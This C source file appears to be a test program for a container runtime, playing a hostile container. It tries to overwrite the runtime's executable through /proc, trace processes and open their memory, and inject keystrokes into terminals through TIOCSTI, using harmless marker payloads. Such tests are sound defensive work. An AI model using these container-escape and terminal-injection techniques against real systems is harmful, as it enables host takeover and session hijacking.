// SPDX-License-Identifier: Apache-2.0
/* The program of a hostile container. Each word is an attack that says one line when it got
 * through:
 *
 *   exe      opens for writing the executable of any process that comes, first held by O_PATH
 *   busy     asks for it for writing again and again, so that nobody can execute it meanwhile
 *   peek     takes what a process that comes has: its memory, files, directory, root; traces it
 *   type     types into the terminal it was given, or the caller's
 *
 * `idle` does nothing, `who` says as which user. `exe`, `busy` and `peek` go on until they are
 * killed; they say "ready" first. Static: it is copied into roots. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

enum {
	HELD = 256
};
enum attack {
	EXE,
	BUSY,
	PEEK
};

static bool same_file(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* Once the runtime has ended its file may be written, unless it is sealed or on a read-only mount.
 */
static void write_held(int *held)
{
	for (int i = 0; i < HELD; i++) {
		if (held[i] < 0)
			continue;
		char path[64];
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0 && errno == ETXTBSY)
			continue;
		if (fd >= 0) {
			char target[256] = "";
			if (readlink(path, target, sizeof(target) - 1) < 0)
				strcpy(target, "?");
			printf("opened for writing: %s\n", target);
			if (write(fd, "#!overwritten\n", 14) == 14)
				printf("overwritten: %s\n", target);
			close(fd);
		}
		close(held[i]);
		held[i] = -1;
	}
}

static void hold_exe(int pid, const struct stat *own, int *held)
{
	char path[64];
	struct stat st;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	bool known = fstat(fd, &st) < 0 || same_file(&st, own);
	for (int i = 0; i < HELD && !known; i++) {
		struct stat other;
		if (held[i] >= 0)
			known = fstat(held[i], &other) == 0 && same_file(&st, &other);
		else {
			held[i] = fd;
			printf("held: %o\n", st.st_mode);
			return;
		}
	}
	close(fd);
}

/*
 * Asked after a success: it counts if the process still has the runtime's program, and not the
 * container's, which it executes sooner or later.
 */
static bool is_theirs(int pid, const struct stat *own)
{
	char path[64];
	struct stat st;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	return stat(path, &st) == 0 && !same_file(&st, own);
}

static void peek_file(int pid, const char *name, int flags, const struct stat *own)
{
	char path[96];
	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	int fd = open(path, flags | O_CLOEXEC);
	if (fd < 0)
		return;
	if (is_theirs(pid, own))
		printf("opened: %s\n", path);
	close(fd);
}

static void peek_fds(int pid, const struct stat *own)
{
	char path[96], target[256];
	for (int i = 3; i < 24; i++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, i);
		ssize_t n = readlink(path, target, sizeof(target) - 1);
		if (n < 0)
			continue;
		target[n] = 0;
		if (is_theirs(pid, own))
			printf("descriptor: %s -> %s\n", path, target);
	}
}

static void trace(int pid, const struct stat *own)
{
	int status = 0;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) && is_theirs(pid, own))
		printf("traced: %d\n", pid);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void peek(int pid, const struct stat *own)
{
	trace(pid, own);
	peek_file(pid, "mem", O_RDWR, own);
	peek_file(pid, "root", O_PATH, own);
	peek_file(pid, "cwd", O_PATH, own);
	peek_fds(pid, own);
}

/* Whoever may not write is still its writer for as long as the kernel takes to find that out. */
static void keep_busy(int held)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (bool said = false;;) {
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0)
			close(fd);
		else if (errno != ETXTBSY && !said)
			said = puts("refused") >= 0;
	}
}

static void each_process(enum attack attack)
{
	int held[HELD];
	struct stat own;
	if (stat("/proc/self/exe", &own) < 0)
		exit(1);
	memset(held, -1, sizeof(held));
	DIR *proc = opendir("/proc");
	if (!proc)
		exit(1);
	puts("ready");
	for (;;) {
		rewinddir(proc);
		for (struct dirent *e; (e = readdir(proc));) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid == getpid())
				continue;
			if (attack == PEEK)
				peek(pid, &own);
			else
				hold_exe(pid, &own, held);
		}
		if (attack == BUSY && held[0] >= 0)
			keep_busy(held[0]);
		if (attack == EXE)
			write_held(held);
	}
}

static void type_into(const char *name, int fd)
{
	for (int high = 0; high < 2; high++)
		for (const char *c = "echo typed\n"; *c; c++)
			if (syscall(SYS_ioctl, fd, (unsigned long)TIOCSTI | (high ? 1UL << 32 : 0),
				    c) == 0) {
				printf("typed into %s\n", name);
				break;
			}
	unsigned char paste[] = {2 + 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0};
	if (fd >= 0 && ioctl(fd, TIOCLINUX, paste) == 0)
		printf("pasted into %s\n", name);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 2 && !strcmp(argv[1], "exe"))
		each_process(EXE);
	else if (argc == 2 && !strcmp(argv[1], "peek"))
		each_process(PEEK);
	else if (argc == 2 && !strcmp(argv[1], "busy"))
		each_process(BUSY);
	else if (argc == 2 && !strcmp(argv[1], "type")) {
		type_into("standard input", 0);
		type_into("standard error", 2);
		type_into("/dev/tty", open("/dev/tty", O_RDWR));
		puts("tried");
	} else if (argc == 2 && !strcmp(argv[1], "who"))
		printf("%u\n", geteuid());
	else if (argc != 2 || strcmp(argv[1], "idle"))
		fprintf(stderr, "usage: intruder exe|busy|peek|type|idle|who\n");
	return argc != 2;
}
